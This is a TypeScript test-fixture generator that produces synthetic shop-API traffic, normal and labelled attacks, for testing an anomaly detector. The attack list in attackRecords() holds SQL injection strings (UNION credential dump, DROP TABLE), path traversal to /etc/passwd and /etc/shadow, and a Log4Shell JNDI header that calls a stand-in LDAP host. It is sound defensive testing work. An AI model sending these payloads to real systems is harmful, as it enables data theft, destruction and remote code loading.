// Generates traffic records of a small shop API for the CLI tests: normal records (item pages,
// a search, cart updates with JSON bodies, from a few public client ranges, with JSON responses)
// and attack records (SQL injection, path traversal, unknown headers, huge values). Deterministic
// for a given seed. Used by the tests as a module; `writeTraffic` streams N records to a file.
import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import type { Writable } from 'node:stream';
import { createGzip } from 'node:zlib';
import { random } from '../support/random.js';

type Header = [string, string];

export interface GeneratedRecord {
  method: string;
  path: string;
  query?: string;
  headers: Header[];
  body?: string;
  remote?: string;
  response?: { status: number; headers: Header[]; body?: string };
  label?: string;
}

export { random };

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'ShopApp/3.2.1 (Android 14; Pixel 8)',
];
const ACCEPT_LANGUAGES = ['en-US,en;q=0.9', 'en-GB,en;q=0.8', 'de-DE,de;q=0.9,en;q=0.5', 'fr-FR,fr;q=0.9,en;q=0.4'];
const SEARCH_WORDS = ['shoes', 'blue shirt', 'socks', 'winter jacket', 'hat', 'gloves', 'scarf', 'sneakers'];
const COLORS = ['red', 'blue', 'green', 'black', 'white'];
/** Client addresses: four public /24s (documentation and example ranges). */
const CLIENT_NETS = ['203.0.113.', '198.51.100.', '192.0.2.', '93.184.216.'];

function pick<T>(rnd: () => number, list: readonly T[]): T {
  return list[Math.floor(rnd() * list.length)];
}

function int(rnd: () => number, lo: number, hi: number): number {
  return lo + Math.floor(rnd() * (hi - lo + 1));
}

function hex(rnd: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(rnd() * 16)];
  return s;
}

function uuid(rnd: () => number): string {
  return `${hex(rnd, 8)}-${hex(rnd, 4)}-4${hex(rnd, 3)}-a${hex(rnd, 3)}-${hex(rnd, 12)}`;
}

function commonHeaders(rnd: () => number): Header[] {
  const headers: Header[] = [
    ['Host', 'shop.example.com'],
    ['User-Agent', pick(rnd, USER_AGENTS)],
    ['Accept-Language', pick(rnd, ACCEPT_LANGUAGES)],
    ['Accept-Encoding', 'gzip, deflate, br'],
    ['Cookie', `session=${hex(rnd, 32)}; theme=${rnd() < 0.5 ? 'light' : 'dark'}`],
    ['X-Request-Id', uuid(rnd)],
  ];
  if (rnd() < 0.3) headers.push(['Connection', 'keep-alive']);
  return headers;
}

function jsonResponse(status: number, body: string): GeneratedRecord['response'] {
  return {
    status,
    headers: [
      ['Content-Type', 'application/json; charset=utf-8'],
      ['Content-Length', String(Buffer.byteLength(body))],
      ['Cache-Control', 'no-store'],
      ['X-Content-Type-Options', 'nosniff'],
    ],
    body,
  };
}

/** One normal record of the shop's traffic. */
export function normalRecord(rnd: () => number): GeneratedRecord {
  const kind = rnd();
  if (kind < 0.55) return itemRecord(rnd);
  if (kind < 0.7) return searchRecord(rnd);
  return cartRecord(rnd);
}

function client(rnd: () => number): string {
  return `${pick(rnd, CLIENT_NETS)}${int(rnd, 1, 254)}`;
}

function itemRecord(rnd: () => number): GeneratedRecord {
  const remote = client(rnd);
  const headers = commonHeaders(rnd);
  const id = int(rnd, 1, 5000);
  headers.push(['Accept', 'application/json']);
  const body = JSON.stringify({
    id,
    name: `Item ${id}`,
    price: int(rnd, 100, 99_999) / 100,
    stock: int(rnd, 0, 120),
    tags: [pick(rnd, COLORS), pick(rnd, SEARCH_WORDS)],
  });
  return { method: 'GET', path: '/shop/item', query: `id=${id}&lang=en`, headers, remote, response: jsonResponse(200, body) };
}

function searchRecord(rnd: () => number): GeneratedRecord {
  const remote = client(rnd);
  const headers = commonHeaders(rnd);
  const q = encodeURIComponent(pick(rnd, SEARCH_WORDS)).replace(/%20/g, '+');
  headers.push(['Accept', 'application/json']);
  const results = Array.from({ length: int(rnd, 0, 3) }, () => ({ id: int(rnd, 1, 5000), score: int(rnd, 1, 100) / 100 }));
  return {
    method: 'GET',
    path: '/shop/search',
    query: `q=${q}&page=${int(rnd, 1, 9)}`,
    headers,
    remote,
    response: jsonResponse(200, JSON.stringify({ results, total: results.length })),
  };
}

function cartRecord(rnd: () => number, color?: string): GeneratedRecord {
  const remote = client(rnd);
  const headers = commonHeaders(rnd);
  const body = JSON.stringify({ item: int(rnd, 1, 5000), qty: int(rnd, 1, 9), options: { color: color ?? pick(rnd, COLORS), gift: rnd() < 0.2 } });
  headers.push(['Accept', 'application/json'], ['Content-Type', 'application/json'], ['Content-Length', String(Buffer.byteLength(body))]);
  const answer = JSON.stringify({ cart: hex(rnd, 16), items: int(rnd, 1, 20), total: int(rnd, 100, 500_000) / 100 });
  return { method: 'POST', path: '/api/cart', headers, body, remote, response: jsonResponse(201, answer) };
}

/** Requests a learned shop Guardian must alert on, each with a label saying what it is. */
export function attackRecords(): GeneratedRecord[] {
  const rnd = random(666);
  const item = (label: string, change: Partial<GeneratedRecord>): GeneratedRecord => ({ ...itemRecord(rnd), ...change, label });
  const attacks: GeneratedRecord[] = [
    item('sql injection: tautology', { query: "id=1'%20OR%20'1'='1&lang=en" }),
    item('sql injection: union', { query: 'id=1%20UNION%20SELECT%20username,password%20FROM%20users--&lang=en' }),
    item('sql injection: stacked', { query: 'id=1%3BDROP%20TABLE%20items--&lang=en' }),
    item('path traversal (encoded)', { path: '/shop/item/..%2F..%2F..%2Fetc%2Fpasswd' }),
    item('path traversal', { path: '/shop/../../../../etc/shadow', query: '' }),
    item('huge query value', { query: `id=1&lang=${'A'.repeat(4000)}` }),
    item('unexpected method', { method: 'DELETE', path: '/api/cart', query: '' }),
  ];
  const unknown = item('unknown header', {});
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JNDI lookup (Log4Shell) payload, as an attacker sends it
  unknown.headers.push(['X-Api-Override', '${jndi:ldap://203.0.113.99/a}']);
  const cookie = item('huge header value', {});
  cookie.headers.push(['Cookie', `tracking=${'x'.repeat(16 * 1024)}`]);
  const post = { ...cartRecord(rnd, 'x'.repeat(50_000)), label: 'huge JSON body value' };
  attacks.push(unknown, cookie, post);
  return attacks;
}

export interface WriteTrafficOptions {
  seed?: number;
  gzip?: boolean;
}

/** Stream `count` normal records to `path` as JSON Lines (gzip-compressed when asked); returns bytes of JSON written. */
export async function writeTraffic(path: string, count: number, options: WriteTrafficOptions = {}): Promise<number> {
  const rnd = random(options.seed ?? 1);
  const file = createWriteStream(path);
  let out: Writable = file;
  if (options.gzip) {
    const gzip = createGzip({ level: 1 });
    gzip.pipe(file);
    out = gzip;
  }
  let bytes = 0;
  let batch = '';
  for (let i = 0; i < count; i++) {
    batch += `${JSON.stringify(normalRecord(rnd))}\n`;
    if (batch.length > 256 * 1024 || i === count - 1) {
      bytes += Buffer.byteLength(batch);
      if (!out.write(batch)) await once(out, 'drain');
      batch = '';
    }
  }
  out.end();
  await once(file, 'close');
  return bytes;
}

export async function writeRecords(path: string, records: GeneratedRecord[]): Promise<void> {
  const file = createWriteStream(path);
  file.end(records.map((r) => `${JSON.stringify(r)}\n`).join(''));
  await once(file, 'close');
}
